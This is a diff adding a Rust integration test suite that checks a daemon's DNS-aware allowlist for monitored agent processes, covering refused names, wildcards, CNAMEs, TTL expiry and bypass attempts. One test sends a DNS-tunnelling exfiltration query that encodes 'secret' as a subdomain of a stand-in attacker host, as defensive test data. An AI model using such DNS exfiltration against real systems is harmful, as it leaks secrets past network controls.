@@ -1,0 +1,543 @@
+//! DNS-aware allowlists end to end: a real dnsmasq as upstream on loopback, the real daemon, real
+//! agent processes (python3) resolving through the host's resolver or sending hand-built queries
+//! to any address on port 53. Run one at a time (`--test-threads=1`).
+
+use std::time::Duration;
+
+use agent_monitor_tests::*;
+use serde_json::Value;
+
+/// A server the agents "ask": redirected by the kernel, so it need not exist (TEST-NET-1).
+const SERVER4: &str = "192.0.2.1";
+const SERVER6: &str = "2001:db8::53";
+const A: &str = "1";
+const AAAA: &str = "28";
+const NOERROR: i64 = 0;
+const SERVFAIL: i64 = 2;
+const REFUSED: i64 = 5;
+
+fn policy(agent: &str, mode: &str, net: &[String]) -> (String, String) {
+    let allow: Vec<String> = net.iter().map(|s| format!("{s:?}")).collect();
+    (
+        format!("{agent}.toml"),
+        format!(
+            "agent = {agent:?}\nmode = {mode:?}\n[network]\nallow = [{}]\n[exec]\nallow = [\"/usr/bin/python3*\"]\n",
+            allow.join(", ")
+        ),
+    )
+}
+
+fn daemon(policies: &[(String, String)], upstream: &Dnsmasq, extra: &[&str]) -> Daemon {
+    let up = upstream.addr.to_string();
+    let mut args = vec!["--dns-upstream", up.as_str()];
+    args.extend_from_slice(extra);
+    Daemon::start_with(policies, &args)
+}
+
+/// One agent with host rules `rules`, a dnsmasq with `records`, and a daemon using it as upstream.
+struct Case {
+    agent: String,
+    up: Dnsmasq,
+    d: Daemon,
+}
+
+/// `None` when the test is skipped (not root).
+fn case(
+    test: &str,
+    mode: &str,
+    rules: &[String],
+    records: &[&str],
+    extra: &[&str],
+) -> Option<Case> {
+    if !require_root(test) {
+        return None;
+    }
+    let agent = unique_agent(test.split('_').next().unwrap_or("dns"));
+    let up = Dnsmasq::start(records);
+    let d = daemon(&[policy(&agent, mode, rules)], &up, extra);
+    Some(Case { agent, up, d })
+}
+
+impl Case {
+    fn ops(&self, ops: &str) -> Vec<Value> {
+        agent_ops(&self.d, &self.agent, ops)
+    }
+}
+
+/// Runs the python DNS client as `agent` with the operations in `ops` (whitespace-separated, see
+/// `PY_DNS_CLIENT`); one JSON value per operation.
+fn agent_ops(d: &Daemon, agent: &str, ops: &str) -> Vec<Value> {
+    let mut cmd = vec![PYTHON, "-c", PY_DNS_CLIENT];
+    cmd.extend(ops.split_whitespace());
+    let out = d.run(agent, Some("dns"), &cmd);
+    assert!(
+        out.status.success(),
+        "agent failed: {}\n{}\ndaemon log:\n{}",
+        text(&out.stdout),
+        text(&out.stderr),
+        d.log()
+    );
+    let results: Vec<Value> = text(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad line {l:?}: {e}")))
+        .collect();
+    eprintln!("{agent}: {ops:?} -> {results:?}");
+    results
+}
+
+fn rcode(v: &Value) -> i64 {
+    v["rcode"]
+        .as_i64()
+        .unwrap_or_else(|| panic!("no rcode: {v}"))
+}
+
+fn addrs(v: &Value) -> Vec<String> {
+    v["addrs"]
+        .as_array()
+        .unwrap_or_else(|| panic!("no addrs: {v}"))
+        .iter()
+        .map(|a| a.as_str().unwrap_or("").to_string())
+        .collect()
+}
+
+fn connected(v: &Value) -> bool {
+    v["ok"] == true
+}
+
+fn eperm(v: &Value) -> bool {
+    v["errno"] == libc::EPERM
+}
+
+fn is(v: &Value, key: &str, want: &str) -> bool {
+    field(v, key) == want
+}
+
+#[test]
+fn allowed_name_is_answered_and_only_then_reachable() {
+    if !require_root("allowed_name_is_answered_and_only_then_reachable") {
+        return;
+    }
+    let agent = unique_agent("dnsok");
+    let other = unique_agent("dnsother");
+    let port = listener_on("127.0.0.3");
+    let other_port = listener_on("127.0.0.3");
+    let up = Dnsmasq::start(&["--address=/ok.example.com/127.0.0.3"]);
+    let rule = format!("ok.example.com:{port}");
+    let d = daemon(
+        &[
+            policy(&agent, "enforce", std::slice::from_ref(&rule)),
+            policy(&other, "enforce", &[rule]),
+        ],
+        &up,
+        &[],
+    );
+    let p = port.to_string();
+    let op = other_port.to_string();
+    // A hard-coded IP of an allowed host (not before the agent resolved it), then the name through
+    // the host's own resolver (resolv.conf; redirected by the kernel), then the rule's port and
+    // another port of the learned address.
+    let r = agent_ops(
+        &d,
+        &agent,
+        &format!("c 127.0.0.3 {p} gai OK.Example.com c 127.0.0.3 {p} c 127.0.0.3 {op}"),
+    );
+    assert!(eperm(&r[0]), "connect before resolution: {}", r[0]);
+    assert_eq!(addrs(&r[1]), ["127.0.0.3"], "getaddrinfo: {}", r[1]);
+    assert!(connected(&r[2]), "connect after resolution: {}", r[2]);
+    assert!(
+        eperm(&r[3]),
+        "another port of the learned address: {}",
+        r[3]
+    );
+
+    // A second agent with the same rules did not resolve: not reachable for it.
+    let r = agent_ops(&d, &other, &format!("c 127.0.0.3 {p}"));
+    assert!(eperm(&r[0]), "other agent: {}", r[0]);
+    // Non-agent processes are unaffected.
+    std::net::TcpStream::connect(("127.0.0.3", port)).expect("the test itself connects");
+
+    // getaddrinfo asks A and AAAA (in either order); the A answer holds the address.
+    let q = d.wait_audit("allowed DNS query", |v| {
+        is(v, "action", "dns")
+            && is(v, "agent_id", &agent)
+            && is(v, "dns_name", "ok.example.com")
+            && field(v, "reason").starts_with("A query")
+    });
+    assert_eq!(field(&q, "verdict"), "allowed");
+    assert_eq!(field(&q, "comm"), "python3");
+    assert!(field(&q, "reason").contains("127.0.0.3"), "{q}");
+    let c = d.wait_audit("learned connect", |v| {
+        is(v, "action", "connect") && is(v, "verdict", "allowed") && v["dest_port"] == port
+    });
+    assert_eq!(field(&c, "dest_host"), "ok.example.com");
+    assert_eq!(field(&c, "agent_id"), agent);
+    let e = wait_journal(&agent, "denied connect before resolution", |e| {
+        is(e, "ACTION", "connect") && is(e, "VERDICT", "denied")
+    });
+    assert_eq!(field(&e, "DEST_ADDR"), "127.0.0.3");
+    assert!(up.was_asked("ok.example.com"), "dnsmasq log:\n{}", up.log());
+    assert_eq!(d.status()["counters"]["verdict_disagreements"], 0);
+}
+
+#[test]
+fn refused_name_never_reaches_upstream_and_is_reported() {
+    let Some(c) = case(
+        "refused_name_never_reaches_upstream_and_is_reported",
+        "enforce",
+        &["ok.example.com:443".into()],
+        &["--address=/attacker.test/127.0.0.9"],
+        &[],
+    ) else {
+        return;
+    };
+    let r = c.ops(&format!("q {SERVER4} c2VjcmV0.Exfil.Attacker.test {A} udp"));
+    assert_eq!(rcode(&r[0]), REFUSED, "{}", r[0]);
+    assert!(addrs(&r[0]).is_empty());
+    // The reply appears to come from the server the agent asked.
+    assert_eq!(r[0]["peer"], SERVER4, "{}", r[0]);
+    assert_eq!(r[0]["peer_port"], 53, "{}", r[0]);
+    assert!(
+        !c.up.log().to_lowercase().contains("attacker"),
+        "a refused name reached the upstream:\n{}",
+        c.up.log()
+    );
+    let e = wait_journal(&c.agent, "refused DNS query", |e| {
+        is(e, "ACTION", "dns") && is(e, "VERDICT", "denied")
+    });
+    assert_eq!(field(&e, "DNS_NAME"), "c2vjcmv0.exfil.attacker.test");
+    assert_eq!(field(&e, "PRIORITY"), "4");
+    assert_eq!(field(&e, "DEST_ADDR"), SERVER4);
+    assert_eq!(field(&e, "DEST_PORT"), "53");
+    assert_eq!(field(&e, "ENFORCEMENT"), "refused");
+    // Attributed to the process that sent it.
+    assert_eq!(field(&e, "COMM"), "python3");
+    assert!(field(&e, "PROCESS_CHAIN").contains(PYTHON), "{e}");
+    let a = c.d.wait_audit("refused query", |v| {
+        is(v, "action", "dns") && is(v, "verdict", "denied")
+    });
+    assert_eq!(field(&a, "dns_name"), "c2vjcmv0.exfil.attacker.test");
+    let counters = &c.d.status()["counters"];
+    assert!(counters["dns_refused"].as_u64() >= Some(1), "{counters}");
+}
+
+#[test]
+fn wildcard_allows_subdomains_only() {
+    let Some(c) = case(
+        "wildcard_allows_subdomains_only",
+        "enforce",
+        &["*.wild.test:443".into()],
+        &["--address=/wild.test/127.0.0.4"],
+        &[],
+    ) else {
+        return;
+    };
+    let q = |name: &str| format!("q {SERVER4} {name} {A} udp ");
+    let r = c.ops(
+        &[
+            q("a.wild.test"),
+            q("x.y.wild.test"),
+            q("wild.test"),
+            q("notwild.test"),
+        ]
+        .concat(),
+    );
+    assert_eq!(
+        (rcode(&r[0]), addrs(&r[0])),
+        (NOERROR, vec!["127.0.0.4".into()])
+    );
+    assert_eq!(rcode(&r[1]), NOERROR, "{}", r[1]);
+    assert_eq!(rcode(&r[2]), REFUSED, "the parent itself: {}", r[2]);
+    assert_eq!(rcode(&r[3]), REFUSED, "{}", r[3]);
+}
+
+#[test]
+fn cname_to_a_name_off_the_list_still_learns_the_final_address() {
+    let port = listener_on("127.0.0.7");
+    let Some(c) = case(
+        "cname_to_a_name_off_the_list_still_learns_the_final_address",
+        "enforce",
+        &[format!("alias.ok.test:{port}")],
+        &[
+            "--host-record=edge.cdn-outside.test,127.0.0.7",
+            "--cname=alias.ok.test,edge.cdn-outside.test",
+        ],
+        &[],
+    ) else {
+        return;
+    };
+    let r = c.ops(&format!(
+        "q {SERVER4} alias.ok.test {A} udp c 127.0.0.7 {port} q {SERVER4} edge.cdn-outside.test {A} udp"
+    ));
+    assert_eq!(
+        (rcode(&r[0]), addrs(&r[0])),
+        (NOERROR, vec!["127.0.0.7".into()])
+    );
+    assert!(
+        connected(&r[1]),
+        "connect to the CNAME target's address: {}",
+        r[1]
+    );
+    assert_eq!(rcode(&r[2]), REFUSED, "the target asked directly: {}", r[2]);
+    let q =
+        c.d.wait_audit("CNAME query", |v| is(v, "dns_name", "alias.ok.test"));
+    assert!(
+        field(&q, "reason").contains("via CNAME edge.cdn-outside.test"),
+        "{q}"
+    );
+    let connect = c.d.wait_audit("connect", |v| {
+        is(v, "action", "connect") && v["dest_port"] == port
+    });
+    assert_eq!(field(&connect, "dest_host"), "alias.ok.test");
+}
+
+#[test]
+fn aaaa_answers_are_learned_and_ipv6_servers_redirected() {
+    let Some(port) = listener_v6() else {
+        panic!("no IPv6 loopback on this machine");
+    };
+    let Some(c) = case(
+        "aaaa_answers_are_learned_and_ipv6_servers_redirected",
+        "enforce",
+        &[format!("six.ok.test:{port}")],
+        &["--host-record=six.ok.test,::1"],
+        &[],
+    ) else {
+        return;
+    };
+    // Also an IPv6 socket asking an IPv4-mapped server: it takes the IPv4 path to the proxy.
+    let mapped = format!("::ffff:{SERVER4}");
+    let r = c.ops(&format!(
+        "c ::1 {port} q {SERVER6} six.ok.test {AAAA} udp c ::1 {port} q {mapped} six.ok.test {AAAA} udp q {mapped} other.test {A} tcp"
+    ));
+    assert!(eperm(&r[0]), "before resolution: {}", r[0]);
+    assert_eq!((rcode(&r[1]), addrs(&r[1])), (NOERROR, vec!["::1".into()]));
+    assert_eq!(r[1]["peer"], SERVER6, "reply source: {}", r[1]);
+    assert!(connected(&r[2]), "after resolution: {}", r[2]);
+    assert_eq!(rcode(&r[3]), NOERROR, "{}", r[3]);
+    assert_eq!(r[3]["peer"], mapped, "reply source: {}", r[3]);
+    assert_eq!(rcode(&r[4]), REFUSED, "{}", r[4]);
+    assert_eq!(r[4]["peer"], mapped, "TCP peer: {}", r[4]);
+}
+
+#[test]
+fn learned_addresses_expire_after_ttl_and_grace() {
+    let port = listener_on("127.0.0.5");
+    let Some(c) = case(
+        "learned_addresses_expire_after_ttl_and_grace",
+        "enforce",
+        &[format!("short.ok.test:{port}")],
+        &["--host-record=short.ok.test,127.0.0.5", "--local-ttl=1"],
+        &["--dns-grace", "1"],
+    ) else {
+        return;
+    };
+    let r = c.ops(&format!(
+        "q {SERVER4} short.ok.test {A} udp c 127.0.0.5 {port}"
+    ));
+    assert_eq!(rcode(&r[0]), NOERROR);
+    assert!(connected(&r[1]), "within the TTL: {}", r[1]);
+    // TTL 1 s + grace 1 s, and a margin.
+    std::thread::sleep(Duration::from_millis(2500));
+    let r = c.ops(&format!("c 127.0.0.5 {port}"));
+    assert!(eperm(&r[0]), "after expiry: {}", r[0]);
+    // The daemon's sweep (every 2 s) removes the kernel entry too.
+    std::thread::sleep(Duration::from_millis(2500));
+    assert_eq!(c.d.status()["counters"]["dns_learned"], 0);
+}
+
+#[test]
+fn dns_over_tcp_is_redirected_and_judged() {
+    let port = listener_on("127.0.0.6");
+    let Some(c) = case(
+        "dns_over_tcp_is_redirected_and_judged",
+        "enforce",
+        &[format!("tcp.ok.test:{port}")],
+        &[
+            "--host-record=tcp.ok.test,127.0.0.6",
+            "--address=/elsewhere.test/127.0.0.8",
+        ],
+        &[],
+    ) else {
+        return;
+    };
+    let r = c.ops(&format!(
+        "q {SERVER4} tcp.ok.test {A} tcp c 127.0.0.6 {port} q {SERVER4} x.elsewhere.test {A} tcp"
+    ));
+    assert_eq!(
+        (rcode(&r[0]), addrs(&r[0])),
+        (NOERROR, vec!["127.0.0.6".into()])
+    );
+    // getpeername on the redirected connection names the server the agent asked.
+    assert_eq!(r[0]["peer"], SERVER4, "{}", r[0]);
+    assert!(connected(&r[1]), "{}", r[1]);
+    assert_eq!(rcode(&r[2]), REFUSED, "{}", r[2]);
+    assert!(!c.up.was_asked("x.elsewhere.test"), "{}", c.up.log());
+    let q =
+        c.d.wait_audit("TCP query", |v| is(v, "dns_name", "tcp.ok.test"));
+    assert_eq!(field(&q, "dest_transport"), "tcp");
+    assert_eq!(field(&q, "comm"), "python3");
+}
+
+#[test]
+fn upstream_down_gives_servfail_never_a_bypass() {
+    if !require_root("upstream_down_gives_servfail_never_a_bypass") {
+        return;
+    }
+    let agent = unique_agent("dnsdown");
+    let port = listener_on("127.0.0.3");
+    let dead = format!("127.0.0.1:{}", free_udp_port());
+    let d = Daemon::start_with(
+        &[policy(
+            &agent,
+            "enforce",
+            &[format!("ok.example.com:{port}")],
+        )],
+        &["--dns-upstream", &dead, "--dns-timeout-ms", "500"],
+    );
+    let r = agent_ops(
+        &d,
+        &agent,
+        &format!(
+            "q {SERVER4} ok.example.com {A} udp q {SERVER4} ok.example.com {A} tcp c 127.0.0.3 {port}"
+        ),
+    );
+    assert_eq!(rcode(&r[0]), SERVFAIL, "{}", r[0]);
+    assert_eq!(rcode(&r[1]), SERVFAIL, "{}", r[1]);
+    assert!(eperm(&r[2]), "nothing learned, nothing reachable: {}", r[2]);
+    let a = d.wait_audit("upstream failure", |v| {
+        is(v, "action", "dns") && is(v, "enforcement", "servfail")
+    });
+    assert!(field(&a, "reason").contains(&dead), "{a}");
+    let counters = &d.status()["counters"];
+    assert!(
+        counters["dns_upstream_failures"].as_u64() >= Some(2),
+        "{counters}"
+    );
+    assert!(
+        d.log().contains("DNS upstream failed"),
+        "not logged:\n{}",
+        d.log()
+    );
+}
+
+#[test]
+fn alert_mode_answers_and_reports_names_off_the_list() {
+    let Some(c) = case(
+        "alert_mode_answers_and_reports_names_off_the_list",
+        "alert",
+        &["ok.example.com:443".into()],
+        &["--address=/offlist.test/127.0.0.9"],
+        &[],
+    ) else {
+        return;
+    };
+    let r = c.ops(&format!("q {SERVER4} x.offlist.test {A} udp"));
+    assert_eq!(
+        (rcode(&r[0]), addrs(&r[0])),
+        (NOERROR, vec!["127.0.0.9".into()])
+    );
+    let e = wait_journal(&c.agent, "alert for a DNS query", |e| {
+        is(e, "ACTION", "dns") && is(e, "VERDICT", "alert")
+    });
+    assert_eq!(field(&e, "DNS_NAME"), "x.offlist.test");
+    assert_eq!(field(&e, "PRIORITY"), "3");
+}
+
+/// The proxy's added latency per query; a measurement, not a check. Run with `--ignored`.
+#[test]
+#[ignore = "benchmark: run with --ignored --nocapture"]
+fn dns_proxy_added_latency() {
+    if !require_root("dns_proxy_added_latency") {
+        return;
+    }
+    let l = dns_proxy_latency(2000);
+    println!(
+        "DNS query latency over {} samples: direct median {:.0} µs p99 {:.0} µs; through the proxy median {:.0} µs p99 {:.0} µs; added median {:.0} µs p99 {:.0} µs",
+        l.samples,
+        l.direct.median_us,
+        l.direct.p99_us,
+        l.proxied.median_us,
+        l.proxied.p99_us,
+        l.added_median_us(),
+        l.added_p99_us()
+    );
+}
+
+#[test]
+fn an_agent_cannot_use_another_agents_proxy_endpoint() {
+    if !require_root("an_agent_cannot_use_another_agents_proxy_endpoint") {
+        return;
+    }
+    let agent = unique_agent("dnsloop");
+    let other = unique_agent("dnsvictim");
+    let up = Dnsmasq::start(&["--address=/victim.test/127.0.0.3"]);
+    // The agent may reach every loopback port, which would include the other's endpoint.
+    let d = daemon(
+        &[
+            policy(&agent, "enforce", &["127.0.0.0/8:*".into()]),
+            policy(&other, "enforce", &["victim.test:443".into()]),
+        ],
+        &up,
+        &[],
+    );
+    let status = d.status();
+    let endpoint = |name: &str| -> Value {
+        status["agents"]
+            .as_array()
+            .and_then(|a| a.iter().find(|x| x["agent"] == name))
+            .map(|x| x["dns_proxy"].clone())
+            .unwrap_or_else(|| panic!("no DNS endpoint of {name} in status: {status}"))
+    };
+    let theirs = endpoint(&other);
+    let mine = endpoint(&agent);
+    let r = agent_ops(
+        &d,
+        &agent,
+        &format!(
+            "qp 127.0.0.1 {} victim.test {A} udp qp 127.0.0.1 {} victim.test {A} tcp qp 127.0.0.1 {} x.test {A} udp",
+            theirs["udp4"], theirs["tcp4"], mine["udp4"]
+        ),
+    );
+    assert!(eperm(&r[0]), "UDP to the other agent's endpoint: {}", r[0]);
+    assert!(eperm(&r[1]), "TCP to the other agent's endpoint: {}", r[1]);
+    // Its own endpoint, asked directly, judges it like any query.
+    assert_eq!(rcode(&r[2]), REFUSED, "{}", r[2]);
+    assert!(!up.was_asked("victim.test"), "{}", up.log());
+    let e = wait_journal(&agent, "denied use of another endpoint", |e| {
+        is(e, "ACTION", "connect") && is(e, "VERDICT", "denied")
+    });
+    assert!(
+        field(&e, "REASON").contains("another agent's DNS proxy"),
+        "{e}"
+    );
+    assert_eq!(d.status()["counters"]["verdict_disagreements"], 0);
+}
+
+#[test]
+fn learned_addresses_allow_udp_datagrams_on_the_rule_ports_only() {
+    let sink = UdpSink::bind("127.0.0.4:0");
+    let other = UdpSink::bind("127.0.0.4:0");
+    let Some(c) = case(
+        "learned_addresses_allow_udp_datagrams_on_the_rule_ports_only",
+        "enforce",
+        &[format!("quic.ok.test:{}", sink.port)],
+        &["--host-record=quic.ok.test,127.0.0.4"],
+        &[],
+    ) else {
+        return;
+    };
+    let (p, o) = (sink.port, other.port);
+    let r = c.ops(&format!(
+        "u 127.0.0.4 {p} q {SERVER4} quic.ok.test {A} udp u 127.0.0.4 {p} u 127.0.0.4 {o}"
+    ));
+    assert!(eperm(&r[0]), "datagram before resolution: {}", r[0]);
+    assert_eq!(rcode(&r[1]), NOERROR, "{}", r[1]);
+    assert!(connected(&r[2]), "datagram after resolution: {}", r[2]);
+    assert!(eperm(&r[3]), "another port: {}", r[3]);
+    assert_eq!(sink.received(), 1, "exactly the allowed datagram arrived");
+    assert_eq!(other.received(), 0);
+    let s = c.d.wait_audit("learned datagram", |v| {
+        is(v, "action", "sendmsg") && is(v, "verdict", "allowed") && v["dest_port"] == p
+    });
+    assert_eq!(field(&s, "dest_host"), "quic.ok.test");
+}
